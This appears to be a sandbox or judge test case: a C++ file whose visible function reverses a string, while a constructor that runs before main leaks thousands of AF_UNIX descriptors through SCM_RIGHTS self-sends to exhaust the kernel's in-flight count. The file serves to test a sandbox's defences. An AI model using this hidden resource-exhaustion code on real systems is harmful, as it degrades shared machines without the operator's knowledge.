// Attack: hides descriptors in messages that nobody receives, sockets within sockets, to use up the kernel's count of them.
// Must get: accepted
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <string>
static int hide(int through, int fd) {
  char control[CMSG_SPACE(sizeof(int))] = {}, byte = 0;
  struct iovec bytes = {&byte, 1};
  struct msghdr message = {};
  message.msg_iov = &bytes;
  message.msg_iovlen = 1;
  message.msg_control = control;
  message.msg_controllen = sizeof control;
  struct cmsghdr* header = CMSG_FIRSTHDR(&message);
  header->cmsg_level = SOL_SOCKET;
  header->cmsg_type = SCM_RIGHTS;
  header->cmsg_len = CMSG_LEN(sizeof(int));
  memcpy(CMSG_DATA(header), &fd, sizeof fd);
  return sendmsg(through, &message, MSG_DONTWAIT) == 1;
}
__attribute__((constructor)) static void fill(void) {
  int hidden = 0;
  for (int i = 0; i < 2000; ++i) {
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) break;
    hidden += hide(pair[0], pair[1]);  // into itself, and both ends let go: only the kernel finds them
    hidden += hide(pair[1], pair[0]);
    close(pair[0]);
    close(pair[1]);
  }
  if (hidden > 0) _exit(__LINE__);
}
std::string mirror(const std::string& text) { return std::string(text.rbegin(), text.rend()); }
